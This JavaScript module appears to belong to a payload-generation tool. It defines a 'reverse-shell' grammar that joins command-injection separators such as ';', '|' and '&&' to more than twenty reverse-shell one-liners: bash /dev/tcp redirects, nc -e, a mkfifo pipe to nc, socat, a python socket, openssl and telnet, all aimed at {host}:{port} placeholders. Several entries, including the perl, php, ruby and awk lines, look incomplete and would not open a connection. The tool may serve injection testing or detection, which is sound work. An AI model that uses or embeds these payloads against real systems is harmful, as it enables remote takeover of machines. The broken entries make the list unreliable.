import { commandGenerator } from '../command-generator.js';
import { COMMAND, PLACES } from '../place.js';

/** Shells that call home, in whatever the host has. */
export const reverseShell = commandGenerator({
  name: 'reverse-shell',
  shells: ['bash'],
  places: [...PLACES, COMMAND],
  rules: {
    start: ['{leave}{first}{shell}{end}'],
    first: [';', '; ', '|', ' && ', '\n', '||', '&'],
    sh: ['sh', 'bash', '/bin/sh', '/bin/bash', 'zsh', 'bash -i', '/bin/sh -i'],
    shell: [
      '{sh} -i >& /dev/tcp/{host}/{port} 0>&1',
      "bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
      'exec {digit-fd}<>/dev/tcp/{host}/{port}',
      '0<&196;exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196',
      'nc -e {sh} {host} {port}',
      'nc {host} {port} -e {sh}',
      'ncat {host} {port} --exec "{sh}"',
      'nc -c {sh} {host} {port}',
      'busybox nc {host} {port} -e sh',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {host} {port} >/tmp/f',
      'mknod /tmp/{letters:p} p && sh </tmp/{letters:p} | nc {host} {port} >/tmp/{letters:p}',
      'telnet {host} {port} | sh | telnet {host} {port}',
      'socat tcp-connect:{host}:{port} exec:"bash -li",pty',
      "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('{host}',{port}));os.dup2(s.fileno(),0);subprocess.call(['sh','-i'])\"",
      'python -c "import pty;pty.spawn(\'{sh}\')"',
      'perl -e "use Socket;exec(\'{sh}\')"',
      'php -r "exec(\'{sh} -i <&3 >&3\');"',
      'ruby -rsocket -e "exit if fork;c=TCPSocket.new(\'{host}\',{port})"',
      'awk "BEGIN {s=0}"',
      'lua -e "os.execute(\'{sh}\')"',
      'openssl s_client -quiet -connect {host}:{port} | sh',
      'xterm -display {host}:{digit}',
      'nohup {sh} -c "{sh} </dev/tcp/{host}/{port}" &',
    ],
    'digit-fd': ['3', '5', '9'],
  },
});
